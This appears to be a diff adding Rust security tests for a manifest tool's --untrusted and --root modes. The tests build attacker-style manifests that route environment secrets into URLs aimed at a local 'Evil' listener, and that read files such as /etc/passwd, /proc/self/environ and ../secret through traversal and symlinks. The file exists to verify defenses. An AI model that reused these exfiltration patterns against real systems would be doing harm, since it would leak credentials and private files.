@@ -1,0 +1,396 @@
+//! A manifests.toml by somebody who wants what is not theirs: what `--untrusted` keeps from them, and `--root` from all.
+
+use std::fs::{self, OpenOptions};
+use std::io::{Read as _, Write as _};
+use std::net::{SocketAddr, TcpListener};
+use std::os::unix::fs::{PermissionsExt as _, symlink};
+use std::path::PathBuf;
+use std::process::Command;
+use std::sync::{Arc, Mutex, PoisonError};
+use std::thread::JoinHandle;
+
+use crate::support::any_registry::AnyRegistry;
+use crate::support::context::{Context, Output};
+use crate::support::images::{Dialect, Image, write_layout};
+use crate::support::registry::{Account, Auth, Authorization, Knobs, Registry};
+
+/// Part of everything that must not get out.
+const SECRET: &str = "s3cr3t";
+
+/// A host of the attacker's: it writes down every byte that it is sent, and has nothing.
+struct Evil {
+    address: SocketAddr,
+    heard: Arc<Mutex<Vec<u8>>>,
+}
+
+impl Evil {
+    fn start() -> Self {
+        let listener = TcpListener::bind("127.0.0.1:0").expect("a free port on loopback");
+        let address = listener.local_addr().expect("a bound socket has an address");
+        let heard: Arc<Mutex<Vec<u8>>> = Arc::default();
+        let log = Arc::clone(&heard);
+        // It ends with the process: nobody waits for it.
+        std::thread::spawn(move || {
+            for stream in listener.incoming() {
+                let Ok(mut stream) = stream else { continue };
+                let mut request = Vec::new();
+                let mut bytes = [0; 4096];
+                while !request.ends_with(b"\r\n\r\n") {
+                    match stream.read(&mut bytes) {
+                        Ok(count @ 1..) => request.extend(&bytes[..count]),
+                        _ => break,
+                    }
+                }
+                log.lock().unwrap_or_else(PoisonError::into_inner).extend(request);
+                // A client that is gone wants no answer.
+                let _ = stream.write_all(b"HTTP/1.1 404 Not Found\r\ncontent-length: 0\r\nconnection: close\r\n\r\n");
+            }
+        });
+        Self { address, heard }
+    }
+
+    /// `127.0.0.1:PORT`
+    fn host(&self) -> String {
+        self.address.to_string()
+    }
+
+    /// All that it was sent.
+    fn heard(&self) -> String {
+        String::from_utf8_lossy(&self.heard.lock().unwrap_or_else(PoisonError::into_inner)).into_owned()
+    }
+}
+
+/// A pipe outside of the project that knows whether anybody opened it to read.
+struct Trap {
+    path: PathBuf,
+    sprung: JoinHandle<()>,
+}
+
+impl Trap {
+    fn set(path: PathBuf) -> Self {
+        let made = Command::new("mkfifo").arg(&path).status().expect("mkfifo is installed");
+        assert!(made.success());
+        let writer = path.clone();
+        // Opening a pipe to write waits until someone opens it to read, however shortly.
+        let sprung = std::thread::spawn(move || drop(OpenOptions::new().write(true).open(writer)));
+        Self { path, sprung }
+    }
+
+    #[track_caller]
+    fn was_not_opened(self) {
+        assert!(!self.sprung.is_finished(), "{} was opened", self.path.display());
+        drop(OpenOptions::new().read(true).open(&self.path));
+        self.sprung.join().expect("the trap works: now it was opened");
+    }
+}
+
+/// A project with secrets all around it, and an attacker's host that its file may name as `EVIL`.
+fn project(manifest: &str) -> (Context, Evil) {
+    let evil = Evil::start();
+    let mut context = Context::with(&manifest.replace("EVIL", &evil.host()));
+    context.set("SECRET", "s3cr3t-of-the-environment");
+    context.set("ALLOWED", "v1.2.3");
+    fs::write(context.path("../secret"), "s3cr3t-of-a-file\n").expect("a file");
+    (context, evil)
+}
+
+/// A list that uses `{v}`, which comes from `from`, in each place that gets about.
+fn list(from: &str) -> String {
+    format!(
+        r#"
+[vars]
+v = {from}
+
+[list.app]
+platforms = ["linux/amd64"]
+source = "EVIL/{{v}}/app:{{v}}"
+target = "EVIL/app"
+tags = ["{{v}}"]
+"#
+    )
+}
+
+/// Nothing of any secret is in what was said, written or sent.
+#[track_caller]
+fn assert_kept(output: &Output, context: &Context, evil: &Evil) {
+    let written = fs::read_to_string(context.path("plan.json")).unwrap_or_default();
+    for (text, of) in
+        [(&output.stdout, "stdout"), (&output.stderr, "stderr"), (&written, "JSON"), (&evil.heard(), "a request")]
+    {
+        assert!(!text.contains(SECRET), "{of} has it: {text}\n{output}");
+        assert!(!text.contains("root:x:"), "{of} has /etc/passwd: {text}\n{output}");
+    }
+}
+
+const PLAN: &str = "plan --untrusted -vv --format human --format json=plan.json";
+
+#[test]
+fn a_variable_of_the_environment_reaches_no_host_and_no_log() {
+    for sink in [
+        "source = \"EVIL/x:{v}\"\ntags = [\"1\"]",
+        "source = \"EVIL/{v}/x:1\"\ntags = [\"1\"]",
+        "source = \"{v}.example.invalid/x:1\"\ntags = [\"1\"]",
+        "source = \"EVIL/x:1\"\ntags = [\"{v}\"]",
+        "source = \"EVIL/x:1\"\ntags = [\"{v|lower} \"]",
+        "source = \"oci:{v}:1\"\ntags = [\"1\"]",
+    ] {
+        let manifest = format!(
+            "[vars]\nv = {{ env = \"SECRET\" }}\n[list.app]\nplatforms = [\"linux/amd64\"]\ntarget = \"EVIL/app\"\n{sink}\n"
+        );
+        let (context, evil) = project(&manifest);
+        let output = context.mlist(PLAN).exits(2);
+        assert!(output.stderr.contains("mlist::config::no_value"), "{output}");
+        assert!(output.stderr.contains("--allow-env SECRET"), "{output}");
+        assert_eq!(evil.heard(), "", "nobody was asked: {sink}");
+        assert_kept(&output, &context, &evil);
+        context.mlist("check --untrusted").exits(2);
+    }
+}
+
+#[test]
+fn the_same_file_gets_its_secret_out_where_its_author_is_trusted() {
+    // That the tests above would see it.
+    let (context, evil) = project(&list("{ env = \"SECRET\" }"));
+    context.mlist("plan");
+    assert!(evil.heard().contains("s3cr3t-of-the-environment"), "{}", evil.heard());
+}
+
+#[test]
+fn a_default_takes_the_place_of_what_is_not_read() {
+    let (context, evil) = project(&list("{ env = \"SECRET\", default = \"dev\" }"));
+    let output = context.mlist(PLAN).exits(4);
+    assert!(evil.heard().contains("/v2/dev/app/manifests/dev"), "{}", evil.heard());
+    assert_kept(&output, &context, &evil);
+}
+
+#[test]
+fn allow_env_lets_exactly_that_variable_through() {
+    let (context, evil) = project(&list("{ env = \"ALLOWED\" }"));
+    let output = context.mlist(PLAN).exits(2);
+    assert!(output.stderr.contains("--allow-env ALLOWED"), "{output}");
+    let allowed = format!("{PLAN} --allow-env ALLOWED");
+    let output = context.mlist(&allowed).exits(4);
+    assert!(evil.heard().contains("/manifests/v1.2.3"), "{output}");
+    for near in ["ALLOWED2", "ALLOW", "allowed", "SECRET"] {
+        context.mlist(&format!("check --untrusted --allow-env {near}")).exits(2);
+    }
+    let both =
+        list("{ env = \"ALLOWED\" }").replace("app:{v}", "app:{w}").replace("[list", "w = { env = \"SECRET\" }\n[list");
+    context.manifest(&both.replace("EVIL", &evil.host()));
+    let output = context.mlist(&allowed).exits(2);
+    assert!(output.stderr.contains("`w` has no value"), "{output}");
+    assert_kept(&output, &context, &evil);
+}
+
+#[test]
+fn an_allowed_value_is_not_quoted_in_a_problem() {
+    let (context, evil) = project(&list("{ env = \"SECRET\" }").replace("tags = [\"{v}\"]", "tags = [\"{v} {v}\"]"));
+    let output = context.mlist(&format!("{PLAN} --allow-env SECRET")).exits(2);
+    assert!(output.stderr.contains("`{v} {v}` has a tag"), "{output}");
+    assert_kept(&output, &context, &evil);
+}
+
+#[test]
+fn files_outside_of_the_folder_are_not_read_by_whatever_path() {
+    for path in [
+        "/etc/passwd",
+        "../secret",
+        "../nothing-there",
+        "sub/../../secret",
+        "link",
+        "folder/secret",
+        "chain",
+        "circle",
+        "{name}/../../secret",
+        "/proc/self/environ",
+    ] {
+        let (context, evil) = project(&list(&format!("{{ file = \"{path}\", default = \"dev\" }}")));
+        fs::create_dir(context.path("sub")).expect("a folder");
+        for (target, name) in [
+            ("../secret", "link"),
+            ("..", "folder"),
+            ("folder/secret", "chain"),
+            ("round", "circle"),
+            ("circle", "round"),
+        ] {
+            symlink(target, context.path(name)).expect("a link");
+        }
+        for command in [PLAN, "check --untrusted", "check --root .", "plan --root sub/..", "sync --root ."] {
+            let output = context.mlist(command).exits(2);
+            assert!(output.stderr.contains("mlist::config::outside_root"), "{path}: {output}");
+            assert_kept(&output, &context, &evil);
+        }
+        assert_eq!(evil.heard(), "", "{path}");
+    }
+}
+
+#[test]
+fn a_value_of_several_lines_is_refused_and_not_shown_to_anybody() {
+    let (context, evil) = project(&list("{ file = \"secrets\" }"));
+    for content in ["s3cr3t-1\ns3cr3t-2\n".to_owned(), SECRET.repeat(50), "s3cr3t with blanks".to_owned()] {
+        fs::write(context.path("secrets"), content).expect("a file");
+        for command in ["plan", PLAN, "check"] {
+            let output = context.mlist(command).exits(2);
+            assert_kept(&output, &context, &evil);
+        }
+    }
+    assert_eq!(evil.heard(), "");
+}
+
+#[test]
+fn a_manifest_that_is_a_link_out_of_its_folder_is_not_read() {
+    let (context, evil) = project("");
+    fs::remove_file(context.path("manifests.toml")).expect("it was there");
+    symlink("../secret", context.path("manifests.toml")).expect("a link");
+    for command in [PLAN, "check --untrusted -f manifests.toml", "check --root .", "sync --root ."] {
+        let output = context.mlist(command).exits(2);
+        assert!(output.stderr.contains("mlist::config::outside_root"), "{output}");
+        assert_kept(&output, &context, &evil);
+    }
+    // The excerpt of a file that is no TOML shows a line of it: that is why.
+    assert!(context.mlist("check").exits(2).stderr.contains(SECRET));
+}
+
+#[test]
+fn layouts_outside_of_the_folder_are_not_opened() {
+    let member = |source: &str, target: &str| {
+        format!(
+            "[list.app]\nplatforms = [\"linux/amd64\"]\nsource = \"{source}\"\ntarget = \"{target}\"\ntags = [\"1\"]\n"
+        )
+    };
+    for (source, target) in [
+        ("oci:../outside:1", "EVIL/app"),
+        ("oci:link:1", "EVIL/app"),
+        ("oci:sub/../../outside:1", "EVIL/app"),
+        ("EVIL/x:1", "oci:../outside"),
+        ("EVIL/x:1", "oci:link"),
+        ("EVIL/x:1", "oci:folder/outside/new"),
+    ] {
+        let (context, evil) = project(&member(source, target));
+        fs::create_dir(context.path("../outside")).expect("a folder");
+        symlink("../outside", context.path("link")).expect("a link");
+        symlink("..", context.path("folder")).expect("a link");
+        let traps = ["oci-layout", "index.json"].map(|name| Trap::set(context.path("../outside").join(name)));
+        for command in [PLAN, "check --untrusted", "sync --root ."] {
+            let output = context.mlist(command).exits(2);
+            assert!(output.stderr.contains("mlist::config::outside_root"), "{source} {target}: {output}");
+            assert_kept(&output, &context, &evil);
+        }
+        for trap in traps {
+            trap.was_not_opened();
+        }
+        assert_eq!(evil.heard(), "");
+        let names: Vec<_> = fs::read_dir(context.path("../outside")).expect("a folder").collect();
+        assert_eq!(names.len(), 2, "nothing was written there");
+    }
+}
+
+#[test]
+fn git_is_not_run_for_a_stranger() {
+    for word in ["describe", "tag", "commit", "branch"] {
+        let (context, evil) = project(&list(&format!("{{ git = \"{word}\" }}")));
+        let git = context.path("../bin/git");
+        fs::write(&git, format!("#!/bin/sh\ntouch '{}'\necho s3cr3t\n", context.path("git-was-run").display()))
+            .expect("a program");
+        fs::set_permissions(&git, fs::Permissions::from_mode(0o755)).expect("a program that can be run");
+        let output = context.mlist(PLAN).exits(2);
+        assert!(output.stderr.contains("git is not asked under --untrusted"), "{output}");
+        assert!(!context.path("git-was-run").exists());
+        assert_kept(&output, &context, &evil);
+        context.mlist("check");
+        assert!(context.path("git-was-run").exists(), "that this test would see it");
+    }
+}
+
+#[test]
+fn what_a_stranger_says_of_a_registry_opens_no_file_and_sends_no_secret() {
+    let manifest = format!(
+        "[registry.\"EVIL\"]\nca = \"../outside/ca\"\nclient-cert = \"../outside/cert\"\nclient-key = \"../outside/key\"\n\
+         username-env = \"SECRET\"\npassword-env = \"PASSWORD\"\nconcurrency = 1\n{}",
+        list("\"dev\"")
+    );
+    let (mut context, evil) = project(&manifest);
+    context.set("PASSWORD", "s3cr3t-password");
+    fs::create_dir(context.path("../outside")).expect("a folder");
+    let traps = ["ca", "cert", "key"].map(|name| Trap::set(context.path("../outside").join(name)));
+    let output = context.mlist(PLAN).exits(4);
+    assert!(output.stderr.contains("mlist::config::left_out"), "{output}");
+    assert!(output.stderr.contains("ca, client-cert, client-key, username-env, password-env"), "{output}");
+    assert!(evil.heard().contains("HEAD /v2/dev/app/manifests/dev"), "plain HTTP, as on this machine without `ca`");
+    assert!(!evil.heard().to_lowercase().contains("authorization"), "{}", evil.heard());
+    assert_kept(&output, &context, &evil);
+    let output = context.mlist("check --root .").exits(2);
+    assert_eq!(output.stderr.matches("mlist::config::outside_root").count(), 3, "{output}");
+    for trap in traps {
+        trap.was_not_opened();
+    }
+}
+
+#[test]
+fn a_stranger_gets_nobodys_credentials() {
+    let account = Account::new("ci-bot", "s3cr3t-of-the-bot");
+    let registry = Registry::start(Knobs { auth: Auth::Basic(account.clone()), ..Knobs::default() });
+    let registry = AnyRegistry::InProcess(registry);
+    registry.push("acme/app", "dev", &Image::new(Dialect::Oci, "linux/amd64", "app"));
+    let manifest = list("\"dev\"").replace("EVIL/{v}/app", "EVIL/acme/app").replace("EVIL", &registry.host());
+    let (mut context, evil) = project(&manifest);
+    context.set(
+        "DOCKER_AUTH_CONFIG",
+        &format!("{{\"auths\":{{\"{}\":{{\"auth\":\"{}\"}}}}}}", registry.host(), account.encoded()),
+    );
+    let helper = |context: &Context| context.log_in_by_helper(&registry.host(), &account);
+    let file = |context: &Context| context.log_in(&registry.host(), &account);
+    for log_in in [&file as &dyn Fn(&Context), &helper] {
+        log_in(&context);
+        let (output, log) = registry.watch(|| context.mlist(PLAN));
+        let output = output.exits(1);
+        assert!(log.iter().all(|exchange| exchange.authorization == Authorization::None), "{log}");
+        assert!(output.stderr.contains("unauthorized"), "{output}");
+        assert!(!context.path("helper-asked").exists(), "no helper is run");
+        assert_kept(&output, &context, &evil);
+        context.mlist("plan").exits(0);
+    }
+}
+
+#[test]
+fn what_is_a_strangers_own_works() {
+    let registry = AnyRegistry::InProcess(Registry::start(Knobs::default()));
+    let image = Image::new(Dialect::Oci, "linux/amd64", "app");
+    registry.push("acme/app-amd64", "v1.2.3", &image);
+    let manifest = format!(
+        "[vars]\nversion = {{ file = \"link\" }}\n[defaults]\nplatforms = [\"linux/amd64\"]\ntags = [\"{{version}}\"]\n\
+         [list.app]\nsource = \"{host}/acme/{{name}}-{{arch}}:{{version}}\"\ntarget = \"{host}/acme/{{name}}\"\n\
+         [list.layout]\nsource = \"oci:in:{{version}}\"\ntarget = \"oci:out/new/{{name}}\"\n",
+        host = registry.host()
+    );
+    let (context, evil) = project(&manifest);
+    fs::create_dir(context.path("images")).expect("a folder");
+    fs::write(context.path("images/VERSION"), "v1.2.3\n").expect("a file");
+    symlink("images/VERSION", context.path("link")).expect("a link");
+    write_layout(&context.path("in"), &[("v1.2.3", &image)]);
+    context.mlist("check --untrusted").exits(0);
+    let output = context.mlist(PLAN).exits(0);
+    assert!(output.stdout.contains("Plan: 2 to create"), "{output}");
+    assert_kept(&output, &context, &evil);
+    context.mlist("sync --root .").exits(0);
+    let output = context.mlist("plan --untrusted -f ../project/manifests.toml --root ..").exits(0);
+    assert!(output.stdout.contains("Plan: 2 unchanged"), "{output}");
+}
+
+#[test]
+fn only_check_and_plan_read_a_strangers_file() {
+    let (context, evil) = project(&list("\"dev\""));
+    for command in ["sync --untrusted", "sync -n --untrusted", "schema --untrusted", "check --allow-env ALLOWED"] {
+        context.mlist(command).exits(2);
+    }
+    assert_eq!(evil.heard(), "");
+}
+
+#[test]
+fn a_root_that_is_none_is_told() {
+    let (context, _evil) = project(&list("\"dev\""));
+    for root in ["nowhere", "manifests.toml"] {
+        let output = context.mlist(&format!("plan --root {root}")).exits(2);
+        assert!(output.stderr.contains(&format!("`{root}`")) && output.stderr.contains("--root DIR"), "{output}");
+    }
+}
